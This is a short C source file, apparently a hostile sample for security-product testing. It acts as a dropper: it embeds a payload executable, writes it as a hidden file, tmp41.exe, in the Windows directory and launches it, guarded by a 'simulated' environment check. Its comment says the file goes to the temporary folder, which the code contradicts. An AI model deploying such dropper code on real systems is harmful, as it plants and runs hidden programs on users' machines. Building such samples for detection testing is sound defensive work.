/* Carries another program (run_key.exe of this folder), writes it to the temporary folder and
 * starts it. */
#include "simulated.h"

#include <string.h>

__asm__(".section .rdata,\"dr\"\n"
	".globl _payload\n_payload:\n"
	".incbin \"" PAYLOAD "\"\n"
	".globl _payload_end\n_payload_end:\n"
	".text\n");
extern const char payload[], payload_end[];

int main(void)
{
	char path[MAX_PATH];
	DWORD written;
	leave_unless_simulated();
	GetWindowsDirectoryA(path, sizeof path - 16);
	strcat(path, "\\tmp41.exe");
	HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS,
				  FILE_ATTRIBUTE_HIDDEN, NULL);
	if (file == INVALID_HANDLE_VALUE)
		return 1;
	WriteFile(file, payload, (DWORD)(payload_end - payload), &written, NULL);
	CloseHandle(file);
	STARTUPINFOA start = { .cb = sizeof start };
	PROCESS_INFORMATION process;
	if (CreateProcessA(path, NULL, NULL, NULL, FALSE, 0, NULL, NULL, &start, &process)) {
		CloseHandle(process.hThread);
		CloseHandle(process.hProcess);
	}
	return 0;
}
